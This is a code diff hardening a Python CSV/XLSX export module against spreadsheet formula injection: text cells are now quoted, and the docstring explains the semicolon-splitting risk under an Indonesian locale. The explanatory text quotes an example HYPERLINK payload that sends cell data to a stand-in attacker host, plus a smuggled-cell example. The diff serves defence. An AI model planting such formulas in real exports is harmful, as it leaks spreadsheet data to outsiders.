@@ -8,7 +8,8 @@ another download or against a published hash. Neither carries personal data: `Rk
 Neither carries a formula either, whatever an agency typed (CSV or formula injection: a program named
 `=HYPERLINK("http://evil.example/?x="&A1,"Klik")` would otherwise run in the official's spreadsheet).
 Every CSV the platform writes passes its cells through `spreadsheet_cell` (OWASP's advice: a text that
-starts with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`); numbers stay numbers. The
+starts with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`, and every text cell is
+quoted, so a `;` inside one cannot start a new cell); numbers stay numbers. The
 XLSX writes texts with `write_string` only, a string cell that no spreadsheet evaluates, and marks the
 same texts "quote prefix" (what Excel records for a typed `'`), so editing such a cell keeps it text.
 
@@ -82,9 +83,11 @@ def filename(rkpd: RkpdOut, extension: str) -> str:
 
 
 def to_csv(rkpd: RkpdOut) -> bytes:
-    """RFC 4180 (comma, CRLF), UTF-8 with a byte-order mark so that spreadsheet programs read it as UTF-8."""
+    """RFC 4180 (comma, CRLF), UTF-8 with a byte-order mark so that spreadsheet programs read it as UTF-8.
+    Every text cell is quoted (numbers are not): a spreadsheet set up for an Indonesian locale splits an
+    unquoted line at `;` too, and would find `=2+2` inside a cell `x;=2+2` and run it."""
     out = io.StringIO()
-    writer = csv.writer(out, lineterminator="\r\n")
+    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
     for values in (COLUMNS, *(row(i) for i in rkpd.items)):
         writer.writerow([spreadsheet_cell(v, numeric=c in NUMERIC) for c, v in enumerate(values)])
     return ("\ufeff" + out.getvalue()).encode()
